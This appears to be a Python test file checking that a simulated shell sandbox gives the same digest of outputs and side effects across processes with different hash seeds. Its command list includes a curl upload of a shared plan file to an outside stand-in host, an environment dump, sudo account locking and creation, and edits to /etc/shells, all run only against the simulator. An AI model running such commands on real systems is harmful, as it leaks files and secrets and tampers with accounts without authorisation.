"""The same seed and the same commands give the same output and the same effects, in any process."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

from fauxcorp.core.events import effect_event

ROOT = Path(__file__).parents[4]
COMMANDS = (
    "ls -laR /srv/share; find / -type f | head -40; date; echo $RANDOM $RANDOM; mktemp; uuidgen; seq 9 | shuf",
    "grep -r plan /srv /home 2>&1; cat /srv/share/*; du -a /srv/share; ls -l /etc",
    "tar czf /tmp/a.tgz /srv/share; sha256sum /tmp/a.tgz; zip -q -r /tmp/a.zip /srv/share; sha256sum /tmp/a.zip",
    (
        "sudo usermod -L wei; sudo useradd intern; sudo sed -i "
        "'s/x/y/' /etc/shells; for f in /etc/*.conf; do echo $f; done"
    ),
    "cp -r /srv/share /tmp/copy; mv /tmp/copy /tmp/moved; rm -r /tmp/moved; sleep 5; date +%s; stat /tmp/a.tgz",
    "echo hi | mail -s x ada; curl -s -F f=@/srv/share/plan.txt https://binbox.example/; ps aux; env | sort; history",
)


def digest(desk) -> str:
    """A digest of all that the commands showed and did."""
    seen = hashlib.sha256()
    for command in COMMANDS:
        result = desk.run(command)
        seen.update(repr(result).encode())
    for effect in desk.effects:
        seen.update(repr(effect_event(effect)).encode())
    return seen.hexdigest()


def test_two_processes_agree(make_desk) -> None:
    script = (
        "from tests.simulator.sandbox.conftest import Desk; from "
        "tests.simulator.sandbox.virtual.test_determinism import digest; "
        "print(digest(Desk()))"
    )
    path = os.pathsep.join([str(ROOT), *sys.path])
    found = set()
    for seed in ("0", "1", "77"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": path}
        done = subprocess.run([sys.executable, "-c", script], env=env, check=True, capture_output=True, text=True)
        found.add(done.stdout.strip())
    assert found == {digest(make_desk())}
